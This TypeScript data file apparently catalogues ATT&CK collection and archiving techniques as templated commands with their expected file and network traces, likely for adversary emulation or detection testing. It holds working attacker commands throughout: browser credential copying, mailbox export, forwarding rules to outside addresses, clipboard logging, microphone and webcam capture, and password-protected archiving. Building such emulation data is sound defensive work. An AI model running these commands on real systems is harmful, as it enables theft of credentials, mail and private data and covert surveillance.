import { t, v } from "../dsl";

/** Collection and exfiltration: staging, archiving and sending data out. */
export const collection = [
  t(
    "T1005",
    "Data from local system",
    "Documents gathered from profiles; browser data copied with esentutl.",
    [
      v("robocopy-docs", [
        {
          cmd: "robocopy C:\\Users\\{{user}}\\Documents C:\\ProgramData\\{{rand}} *.docx *.xlsx *.pdf /S /R:0",
          files: ["C:\\ProgramData\\{{rand}}\\Budget.xlsx"],
        },
      ]),
      v("esentutl-browser", [
        'esentutl.exe /y "{{local}}\\Microsoft\\Edge\\User Data\\Default\\Login Data" /d {{tmp}}\\ld.db',
      ]),
      v(
        "ps-collect",
        [
          {
            ps: "Get-ChildItem -Path $env:USERPROFILE -Include *.doc*,*.xls*,*.pdf -Recurse | Copy-Item -Destination C:\\ProgramData\\{{rand}}",
            files: ["C:\\ProgramData\\{{rand}}\\Report.docx"],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t("T1025", "Data from removable media", "Files copied off a USB drive.", [
    v("xcopy-usb", [{ cmd: "xcopy E:\\ {{tmp}}\\usb\\ /s /e /h /y", files: ["{{tmp}}\\usb\\notes.docx"] }]),
  ]),
  t("T1039", "Data from network shared drive", "Files pulled from a file server share.", [
    v("robocopy-share", [
      {
        cmd: "robocopy \\\\{{srv}}\\Finance C:\\ProgramData\\{{rand}} /E /R:0 /W:0",
        net: [["@server", 445]],
      },
    ]),
    v("xcopy-share", [{ cmd: "xcopy \\\\{{srv}}\\HR\\*.xlsx {{tmp}}\\hr\\ /s /y", net: [["@server", 445]] }]),
  ]),
  t("T1074", "Data staged", "Collected files gathered in one folder.", [
    v("stage", [
      {
        cmd: "cmd.exe /c mkdir C:\\ProgramData\\{{rand}} & copy {{home}}\\Documents\\*.pdf C:\\ProgramData\\{{rand}}\\",
        files: ["C:\\ProgramData\\{{rand}}\\a.pdf"],
      },
    ]),
  ]),
  t("T1074.001", "Local data staging", "Files staged in ProgramData/Temp before archiving.", [
    v("copy", [
      {
        cmd: "cmd.exe /c copy {{home}}\\Documents\\*.xlsx C:\\Users\\Public\\{{rand}}\\",
        files: ["C:\\Users\\Public\\{{rand}}\\q3.xlsx"],
      },
    ]),
    v(
      "ps-stage",
      [
        {
          ps: "New-Item -ItemType Directory -Path $env:TEMP\\{{rand}}; Copy-Item $env:USERPROFILE\\Desktop\\* $env:TEMP\\{{rand}}",
          files: ["{{tmp}}\\{{rand}}\\passwords.txt"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1074.002", "Remote data staging", "Data staged on another host's share.", [
    v(
      "copy-to-share",
      [
        {
          cmd: "cmd.exe /c copy {{home}}\\Documents\\*.docx \\\\{{srv}}\\C$\\PerfLogs\\{{rand}}\\",
          net: [["@server", 445]],
        },
      ],
      { user: "@admin" },
    ),
  ]),
  t("T1113", "Screen capture", "Screenshots taken with .NET CopyFromScreen or a tool.", [
    v(
      "copyfromscreen",
      [
        {
          ps: 'Add-Type -AssemblyName System.Windows.Forms; $b = New-Object Drawing.Bitmap([Windows.Forms.Screen]::PrimaryScreen.Bounds.Width, [Windows.Forms.Screen]::PrimaryScreen.Bounds.Height); [Drawing.Graphics]::FromImage($b).CopyFromScreen(0,0,0,0,$b.Size); $b.Save("$env:TEMP\\s.png")',
          files: ["{{tmp}}\\s.png"],
        },
      ],
      { shell: "ps" },
    ),
    v("psr", [
      { cmd: "psr.exe /start /output {{tmp}}\\{{rand}}.zip /sc 1 /gui 0", files: ["{{tmp}}\\{{rand}}.zip"] },
    ]),
    v("nircmd", ["{{tools}}\\nircmd.exe savescreenshot {{tmp}}\\scr.png"]),
  ]),
  t("T1114", "Email collection", "Mail stores copied or exported.", [
    v("copy-ost", [
      {
        cmd: 'cmd.exe /c copy "{{local}}\\Microsoft\\Outlook\\*.ost" {{tmp}}',
        reads: ["{{local}}\\Microsoft\\Outlook\\{{user}}@{{dns}}.ost"],
      },
    ]),
  ]),
  t("T1114.001", "Local email collection", "OST/PST files copied, or Outlook items read through COM.", [
    v("copy-pst", [
      {
        cmd: 'cmd.exe /c copy "{{home}}\\Documents\\Outlook Files\\*.pst" C:\\ProgramData\\{{rand}}\\',
        reads: ["{{home}}\\Documents\\Outlook Files\\archive.pst"],
      },
    ]),
    v(
      "outlook-com",
      [
        {
          ps: "$o = New-Object -ComObject Outlook.Application; $ns = $o.GetNamespace('MAPI'); $ns.GetDefaultFolder(6).Items | Select-Object -First 200 Subject,SenderName,Body | Export-Csv $env:TEMP\\mail.csv",
          files: ["{{tmp}}\\mail.csv"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1114.002", "Remote email collection", "Exchange mailbox export requests or EWS pulls.", [
    v(
      "new-mailboxexportrequest",
      [
        {
          ps: "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\{{srv}}\\c$\\PerfLogs\\ceo.pst",
          net: [["@server", 443]],
        },
      ],
      { shell: "ps", user: "@admin" },
    ),
    v(
      "mailsniper",
      [
        {
          ps: "Invoke-SelfSearch -Mailbox {{user}}@{{dns}} -ExchHostname mail.{{dns}} -Terms 'password','vpn'",
          net: [["mail.{{dns}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1114.003", "Email forwarding rule", "Inbox rules forwarding mail outside.", [
    v(
      "new-inboxrule",
      [
        {
          ps: "New-InboxRule -Name 'Sync' -Mailbox {{user}} -ForwardTo 'backup.{{rand}}@proton.me' -DeleteMessage $true",
        },
      ],
      { shell: "ps" },
    ),
    v(
      "set-mailbox",
      [
        {
          ps: "Set-Mailbox -Identity {{user}} -ForwardingSmtpAddress 'smtp:{{rand}}@gmail.com' -DeliverToMailboxAndForward $true",
        },
      ],
      { shell: "ps", user: "@admin" },
    ),
  ]),
  t("T1115", "Clipboard data", "Clipboard read with Get-Clipboard or a .NET call.", [
    v(
      "get-clipboard",
      [{ ps: "Get-Clipboard | Out-File -Append $env:TEMP\\cb.txt", files: ["{{tmp}}\\cb.txt"] }],
      { shell: "ps" },
    ),
    v(
      "clip-loop",
      [
        {
          ps: "Add-Type -AssemblyName System.Windows.Forms; while($true){ [Windows.Forms.Clipboard]::GetText() | Out-File -Append $env:TEMP\\c.log; Start-Sleep 10 }",
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1119", "Automated collection", "Scripts that sweep for and copy documents.", [
    v("for-loop", [
      {
        cmd: 'cmd.exe /c for /R C:\\Users %f in (*.docx *.xlsx *.pdf) do copy "%f" C:\\ProgramData\\{{rand}}\\',
        files: ["C:\\ProgramData\\{{rand}}\\a.docx"],
      },
    ]),
    v(
      "ps-sweep",
      [
        {
          ps: "Get-ChildItem -Path C:\\Users -Recurse -Include *.doc*,*.xls*,*.txt -ErrorAction SilentlyContinue | Where-Object { $_.Length -lt 10MB } | Copy-Item -Destination $env:TEMP\\{{rand}}",
          files: ["{{tmp}}\\{{rand}}\\b.xlsx"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1123", "Audio capture", "The microphone recorded with a tool or SoundRecorder.", [
    v("recorder", ["{{tools}}\\{{name}}.exe --record 60 {{tmp}}\\a.wav"]),
    v("ffmpeg", ['{{tools}}\\ffmpeg.exe -f dshow -i audio="Microphone Array" -t 60 {{tmp}}\\m.mp3']),
  ]),
  t("T1125", "Video capture", "The webcam recorded with ffmpeg/dshow.", [
    v("ffmpeg", ['{{tools}}\\ffmpeg.exe -f dshow -i video="Integrated Camera" -t 30 {{tmp}}\\v.mp4']),
  ]),
  t("T1185", "Browser session hijacking", "A browser started with remote debugging to steal sessions.", [
    v("chrome-debug", [
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --remote-debugging-port=9222 --user-data-dir="{{local}}\\Google\\Chrome\\User Data" --headless',
    ]),
    v("edge-debug", [
      {
        cmd: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --remote-debugging-port=9223 --restore-last-session',
        image: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
      },
    ]),
  ]),
  t("T1213", "Data from information repositories", "Documents pulled from SharePoint/Confluence.", [
    v(
      "iwr-sharepoint",
      [
        {
          ps: "Invoke-WebRequest -Uri https://{{dns}}.sharepoint.com/sites/finance/_api/web/lists -UseDefaultCredentials",
          net: [["{{dns}}.sharepoint.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1213.002", "SharePoint", "SharePoint documents enumerated and downloaded.", [
    v(
      "spo",
      [
        {
          ps: "Get-PnPFolderItem -FolderSiteRelativeUrl 'Shared Documents' | % { Get-PnPFile -Url $_.ServerRelativeUrl -Path $env:TEMP -AsFile }",
          net: [["{{dns}}.sharepoint.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1213.006", "Databases", "SQL data dumped with sqlcmd/bcp.", [
    v("sqlcmd", [
      {
        cmd: 'sqlcmd -S {{srv}} -E -Q "SELECT * FROM Payroll.dbo.Employees" -o {{tmp}}\\emp.csv',
        net: [["@server", 1433]],
      },
    ]),
    v("bcp", [
      {
        cmd: 'bcp "SELECT * FROM CRM.dbo.Customers" queryout {{tmp}}\\c.dat -S {{srv}} -T -c',
        net: [["@server", 1433]],
      },
    ]),
  ]),
  t("T1560", "Archive collected data", "Staged data compressed before exfiltration.", [
    v("rar", [
      '"C:\\Program Files\\WinRAR\\rar.exe" a -hp{{rand}} C:\\ProgramData\\{{rand}}.rar C:\\ProgramData\\{{rand}}\\',
    ]),
  ]),
  t("T1560.001", "Archive via utility", "rar/7-Zip with passwords, makecab, tar and Compress-Archive.", [
    v("rar", [
      {
        cmd: '"C:\\Program Files\\WinRAR\\Rar.exe" a -r -ep1 -m5 -hp{{rand2}} C:\\ProgramData\\{{rand}}.rar C:\\ProgramData\\{{rand}}\\*',
        files: ["C:\\ProgramData\\{{rand}}.rar"],
      },
    ]),
    v(
      "compress-archive",
      [
        {
          ps: "Compress-Archive -Path C:\\ProgramData\\{{rand}} -DestinationPath $env:TEMP\\{{rand}}.zip",
          files: ["{{tmp}}\\{{rand}}.zip"],
        },
      ],
      { shell: "ps" },
    ),
    v("7zip", [
      {
        cmd: '"C:\\Program Files\\7-Zip\\7z.exe" a -tzip -p{{rand2}} -mx9 {{tmp}}\\{{rand}}.zip C:\\Users\\Public\\{{rand}}\\',
        files: ["{{tmp}}\\{{rand}}.zip"],
      },
    ]),
    v("makecab", [
      { cmd: "makecab {{tmp}}\\{{rand}}.txt {{tmp}}\\{{rand}}.cab", files: ["{{tmp}}\\{{rand}}.cab"] },
    ]),
  ]),
  t("T1560.002", "Archive via library", "Python zipfile or .NET ZipFile used to archive data.", [
    v("python-zipfile", [
      "\"C:\\Program Files\\Python311\\python.exe\" -c \"import shutil; shutil.make_archive(r'{{tmp}}\\{{rand}}', 'zip', r'{{home}}\\Documents')\"",
    ]),
    v(
      "dotnet-zipfile",
      [
        {
          ps: 'Add-Type -AssemblyName System.IO.Compression.FileSystem; [IO.Compression.ZipFile]::CreateFromDirectory("$env:USERPROFILE\\Documents", "$env:TEMP\\{{rand}}.zip")',
          reads: ["{{home}}\\Documents\\{{name}}.docx"],
          files: ["{{tmp}}\\{{rand}}.zip"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1560.003", "Archive via custom method", "XOR-encrypted bundle written by the implant.", [
    v(
      "xor",
      [
        {
          ps: '$b = [IO.File]::ReadAllBytes("$env:TEMP\\{{rand}}.zip"); for($i=0;$i -lt $b.Length;$i++){$b[$i] = $b[$i] -bxor 0x5A}; [IO.File]::WriteAllBytes("$env:TEMP\\{{rand}}.dat", $b)',
          files: ["{{tmp}}\\{{rand}}.dat"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
];
